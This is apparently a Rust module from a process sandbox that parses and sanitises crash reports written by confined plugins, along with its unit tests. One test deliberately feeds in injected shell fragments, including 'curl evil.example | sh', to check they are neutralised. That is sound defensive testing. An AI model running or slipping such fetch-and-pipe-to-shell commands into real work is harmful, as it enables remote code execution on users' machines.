//! What a confined process wrote about its own crash, in words. Who writes it is the platform's handler of
//! signals, where it has one.

use std::fmt;

use super::Captured;
use super::ending::{Ending, signal_name};
use crate::text::foreign;

/// How the line of a crash begins.
pub(super) const MARK: &str = "pearlbed-crash";

/// The longest name of a thread.
const THREAD_CHARS_MAX: usize = 15;
/// The longest place: a name of a library and an offset in it.
const PLACE_BYTES_MAX: usize = 200;

/// Whether `value` is what the handler writes for an address or a place, and no sentence.
fn is_place(value: &str) -> bool {
    let fits = |c: char| c.is_alphanumeric() || "._+-@:~/%,".contains(c);
    !value.is_empty() && value.len() <= PLACE_BYTES_MAX && value.chars().all(fits)
}

/// Where a confined process crashed. All of it is the word of that process.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Crash {
    /// The signal.
    pub signal: i32,
    /// The address that was used wrongly, for a fault.
    pub address: Option<String>,
    /// The instruction: `<library>+0x<offset>`, as `addr2line -e <library>` takes it.
    pub at: Option<String>,
    /// Where it lies in none of the foreign libraries: the nearest place in one that the stack shows.
    pub near: Option<String>,
    /// The thread's name.
    pub thread: Option<String>,
}

impl Crash {
    /// Takes the first such line out of what a process wrote.
    pub fn take(from: &mut Captured) -> Option<Self> {
        let line = from.text.lines().find(|line| line.starts_with(MARK))?.to_owned();
        let crash = Self::read(&line)?;
        // The line and the one before it, which is empty, are not the plugin's.
        let with_ends = [format!("\n{line}\n"), format!("{line}\n"), line];
        if let Some(found) = with_ends.iter().find(|text| from.text.contains(*text)) {
            from.text = from.text.replacen(found, "", 1);
        }
        Some(crash)
    }

    fn read(line: &str) -> Option<Self> {
        let mut crash = Self { signal: 0, address: None, at: None, near: None, thread: None };
        let (head, thread) = line.split_once(" thread=").unwrap_or((line, ""));
        // No thread has a longer name, and no backtick in it ends ours.
        let name: String = foreign(thread).chars().take(THREAD_CHARS_MAX).collect();
        crash.thread = Some(name.replace('`', "'")).filter(|name| !name.is_empty());
        for (name, value) in head.split(' ').filter_map(|word| word.split_once('=')) {
            let text = || is_place(value).then(|| value.to_owned());
            match name {
                "signal" => crash.signal = value.parse().ok()?,
                "address" => crash.address = text(),
                "at" => crash.at = text(),
                "near" => crash.near = text(),
                _ => {}
            }
        }
        (crash.signal > 0).then_some(crash)
    }

    /// How the process ended, in words, with what it wrote of its crash where it ended by a signal.
    pub fn words(crash: Option<&Self>, ending: Ending) -> String {
        match (crash, ending.signal) {
            (Some(crash), Some(signal)) if crash.signal == signal => format!("{ending}{crash}"),
            // Such as a stack that overflowed, after which Rust aborts.
            (Some(crash), Some(_)) => format!("{ending} after {}{crash}", signal_name(crash.signal)),
            _ => ending.to_string(),
        }
    }
}

/// What follows the signal.
impl fmt::Display for Crash {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if let Some(at) = &self.at {
            write!(f, " in {at}")?;
        }
        if let Some(near) = &self.near {
            write!(f, ", called near {near}")?;
        }
        if let Some(address) = &self.address {
            write!(f, ", at address {address}")?;
        }
        match &self.thread {
            Some(thread) => write!(f, ", thread `{thread}`"),
            None => Ok(()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ending(signal: i32) -> Ending {
        Ending { status: None, signal: Some(signal), memory_peak_bytes: 0 }
    }

    #[test]
    fn a_crash_is_told_with_its_place_and_leaves_the_output_as_it_was() {
        let mut output = Captured {
            text: "half a line\npearlbed-crash signal=11 address=0x10 at=libx.so+0x1a thread=a b\nrest\n"
                .into(),
            bytes_left_out: 0,
        };
        let crash = Crash::take(&mut output).unwrap();
        assert_eq!(output.text, "half a linerest\n");
        assert_eq!(
            Crash::words(Some(&crash), ending(11)),
            "SIGSEGV (invalid memory access) in libx.so+0x1a, at address 0x10, thread `a b`"
        );
        assert_eq!(
            Crash::words(Some(&crash), ending(6)),
            "SIGABRT (abort) after SIGSEGV (invalid memory access) in libx.so+0x1a, at address 0x10, thread `a b`"
        );
        assert_eq!(Crash::take(&mut output), None);
    }

    /// Whoever crashes writes it, and so may whoever does not.
    #[test]
    fn a_place_of_any_length_and_letters_is_cut_and_harmless() {
        for letters in 0..300 {
            let place = format!("{}{}\u{1b}[2J", "x".repeat(letters), "é€😀".repeat(90));
            let line =
                format!("pearlbed-crash signal=11 address={place} at={place} near={place} thread={place}\n");
            let crash = Crash::take(&mut Captured { text: line, bytes_left_out: 0 }).unwrap();
            let words = Crash::words(Some(&crash), ending(11));
            assert!(words.len() < 4000 && !words.contains('\u{1b}'), "{words}");
        }
        // What could be a sentence of ours is no place, and no name of a thread ends where ours go on.
        let line = "pearlbed-crash signal=11 address=0x10;run at=libx.so;curl|sh near=a`b thread=x`; run `curl evil.example | sh`\n";
        let crash = Crash::take(&mut Captured { text: line.into(), bytes_left_out: 0 }).unwrap();
        let words = Crash::words(Some(&crash), ending(11));
        assert_eq!(words, "SIGSEGV (invalid memory access), thread `x'; run 'curl e`");
    }

    #[test]
    fn what_only_looks_like_it_is_output() {
        for text in ["pearlbed-crash\n", "pearlbed-crash signal=x\n", " pearlbed-crash signal=11\n"] {
            let mut output = Captured { text: text.into(), bytes_left_out: 0 };
            assert_eq!(Crash::take(&mut output), None);
            assert_eq!(output.text, text);
        }
    }
}
